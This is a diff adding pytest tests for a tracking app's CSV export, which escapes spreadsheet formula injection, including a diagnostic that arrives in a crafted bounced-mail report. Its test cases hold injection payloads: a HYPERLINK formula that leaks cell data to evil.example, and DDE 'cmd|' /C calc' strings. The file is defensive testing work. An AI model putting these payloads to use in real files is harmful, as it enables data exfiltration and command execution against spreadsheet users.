@@ -1,0 +1,87 @@
+"""CSV exports cannot carry spreadsheet formulas (OWASP CSV injection), including diagnostics
+that arrive by mail; every other cell reads the same."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime, timedelta
+
+import pandas as pd
+import pytest
+
+from tests.actors import support
+from tracking.config import load_settings
+from tracking.export import frame_to_csv, neutralise_cell
+from tracking.inbound.maildir import MaildirMailbox
+from tracking.ingest import IngestPolicy, ingest_available
+from tracking.models import SendingMode
+from tracking.service import SendRequest, request_send
+from tracking.store import console_queries as q
+
+
+@pytest.mark.parametrize("value, expected", [
+    ('=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
+     '\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'),
+    ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("\uff1d1+1", "'\uff1d1+1"),
+    ("FV 2026/11/0042", "FV 2026/11/0042"),
+    ("a=b", "a=b"),
+    ("", ""),
+    (-12.5, -12.5),       # a number is a number, not a formula
+    (None, None),
+])
+def test_neutralise_cell(value, expected):
+    assert neutralise_cell(value) == expected
+
+
+def _read(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8"))))
+
+
+def test_frame_to_csv_changes_only_the_dangerous_cells():
+    frame = pd.DataFrame({
+        "document_number": ["=HYPERLINK(\"http://x\")", "FV 1"],
+        "client": ["@Client", "Dupont & Fils, SARL"],
+        "amount": [-120.5, 30],
+        "note": [None, "-"],
+    })
+    rows = _read(frame_to_csv(frame))
+    assert rows == [["document_number", "client", "amount", "note"],
+                    ["'=HYPERLINK(\"http://x\")", "'@Client", "-120.5", ""],
+                    ["FV 1", "Dupont & Fils, SARL", "30.0", "'-"]]
+    assert frame.loc[0, "client"] == "@Client"          # the caller's frame is untouched
+
+
+def test_a_diagnostic_from_mail_is_neutralised_in_the_failures_export(db, seeded, policy, tmp_path):
+    now = datetime.now(UTC).replace(microsecond=0)
+    receipt = request_send(db, SendRequest(seeded[SendingMode.RELAY][0], ("victim@client.test",),
+                                           actor=support("sam")), policy, now=now)
+    diagnostic = '=HYPERLINK("http://evil.example/","Voir")'
+    dsn = (
+        "From: MAILER-DAEMON@mx.client.test\r\nTo: bounces@suivi.test\r\n"
+        "Subject: Undelivered Mail Returned to Sender\r\nMIME-Version: 1.0\r\n"
+        'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\r\n\r\n'
+        "--b\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n"
+        "--b\r\nContent-Type: message/delivery-status\r\n\r\n"
+        f"Reporting-MTA: dns; mx.client.test\r\nOriginal-Envelope-Id: {receipt.send_id}\r\n\r\n"
+        "Final-Recipient: rfc822; victim@client.test\r\nAction: failed\r\nStatus: 5.1.1\r\n"
+        f"Diagnostic-Code: smtp; {diagnostic}\r\n\r\n--b--\r\n")
+    maildir = tmp_path / "mail"
+    for sub in ("new", "cur", "tmp"):
+        (maildir / sub).mkdir(parents=True)
+    (maildir / "new" / "1.dsn.host").write_bytes(dsn.encode())
+    settings = load_settings({"SUIVI_VERP_KEY": "test-verp-key"})
+    assert ingest_available(db, MaildirMailbox(maildir),
+                            IngestPolicy.from_settings(settings)).by_state == {"matched": 1}
+    failed = q.failing_deliveries(db.cursor(), now - timedelta(days=1), now + timedelta(days=1))
+    assert failed["diagnostic"].tolist() == [diagnostic]      # stored as it came
+    header, row = _read(frame_to_csv(failed))
+    cells = dict(zip(header, row))
+    assert cells["diagnostic"] == "'" + diagnostic
+    assert cells["recipient"] == "victim@client.test" and cells["reason"] == "userunknown"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
